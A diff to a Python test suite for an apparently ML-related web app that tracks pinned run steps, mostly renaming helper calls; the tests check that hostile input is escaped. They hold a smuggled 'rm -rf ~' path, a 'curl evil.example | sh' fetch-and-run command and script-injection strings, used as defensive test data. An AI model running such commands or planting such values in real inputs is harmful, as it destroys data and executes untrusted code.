@@ -63,8 +63,8 @@ def test_a_command_is_one_call_of_ours_whatever_a_machine_tells(signed: Client, 
     origin = {"host": HOST, "path": "/d; rm -rf ~", "command": command}
     told(run, 2, files={"gen_batch.dp": {"sha256": "a" * 64, "bytes": 9}}, origin=origin)
     told(run, 1, origin={"host": HOST, "path": "/d; rm -rf ~", "command": "curl evil.example | sh"})
-    pins.pin(run, 2, keeper)
-    pins.pin(run, 1, keeper)
+    pins.pin_step(run, 2, keeper)
+    pins.pin_step(run, 1, keeper)
     page = body(signed, "/pins/")
     shown = re.findall(r"<pre>(rolloutdeck import[^<]*)</pre>", page)
     assert "rolloutdeck import &#x27;/d;&#x27; curl evil.example &#x27;|&#x27; sh" in shown
@@ -81,10 +81,10 @@ def test_what_cannot_be_replayed_says_why(signed: Client, pin: Pin, state: str) 
 def test_an_upload_shows_its_share(signed: Client, pin: Pin, run: Run) -> None:
     files = {name: {"sha256": name * 64, "bytes": size} for name, size in (("a", 400), ("b", 600))}
     artifact = told(run, 3, files=files)
-    pins.pin(run, 3, pin.user)
-    plain = storage.incoming()
+    pins.pin_step(run, 3, pin.user)
+    plain = storage.create_incoming_path()
     plain.write_bytes(b"x" * 400)
-    artifacts.arrived(artifact, "a" * 64, plain, 400)
+    artifacts.store_artifact_file(artifact, "a" * 64, plain, 400)
     page = body(signed, "/pins/")
     assert "UPLOADING" in page and "40 %" in page
 
@@ -97,7 +97,7 @@ def test_a_note_is_changed_and_a_pin_removed(signed: Client, pin: Pin) -> None:
 
 
 def test_a_pin_in_the_plan_is_not_removed(signed: Client, pin: Pin, keeper: User) -> None:
-    plans.save(pin.project, "default", keeper, if_match=0, action="cache", entries=[(pin, 3)])
+    plans.save_plan(pin.project, "default", keeper, if_match=0, action="cache", entries=[(pin, 3)])
     signed.post(f"/pins/{pin.pk}/remove/", {"next": "/pins/"})
     assert "take it out of the plan first" in body(signed, "/pins/")
     assert Pin.objects.get().removed_at is None
@@ -114,9 +114,9 @@ def test_a_page_of_many_pins_takes_as_many_queries_as_one_of_few(
     entries = [(pin, 1)]
     for step in range(3, 13):
         told(run, step)
-        entries.append((pins.pin(run, step, keeper)[0], step))
+        entries.append((pins.pin_step(run, step, keeper)[0], step))
     for number in range(40):
-        plans.save(pin.project, "default", keeper, if_match=number, action="cache", entries=entries[: number + 1])
+        plans.save_plan(pin.project, "default", keeper, if_match=number, action="cache", entries=entries[: number + 1])
     body(signed, "/pins/")
     with django_assert_max_num_queries(45):
         page = body(signed, "/pins/")
@@ -128,10 +128,10 @@ def test_hostile_names_notes_and_places_stay_text(signed: Client, project: Proje
     indexed(run, lines(generation()), 1)
     origin = {"host": "<img src=x>", "path": "/d/<script>x</script>", "command": "<script>alert(1)</script>"}
     artifact = told(run, 1, origin=origin, facts={"model": TRAP, "versions": {TRAP: TRAP}})
-    pin = pins.pin(run, 1, keeper, note=TRAP)[0]
-    plans.save(project, "default", keeper, if_match=0, action="cache", entries=[(pin, 1)])
-    bindings.bind(run)
-    outcomes.report(run, "files", 1, "refused", pin=pin.pk, reason=TRAP)
+    pin = pins.pin_step(run, 1, keeper, note=TRAP)[0]
+    plans.save_plan(project, "default", keeper, if_match=0, action="cache", entries=[(pin, 1)])
+    bindings.bind_run(run)
+    outcomes.record_replay_outcome(run, "files", 1, "refused", pin=pin.pk, reason=TRAP)
     for url in ("/pins/", "/runs/hostile/", "/runs/hostile/steps/1/", f"/pins/?base=0&pin={pin.pk}&target=<script>"):
         page = body(signed, url)
         assert not re.search(r"<img|<script(?! src=)|\sstyle=|\son\w+=\"", page), url
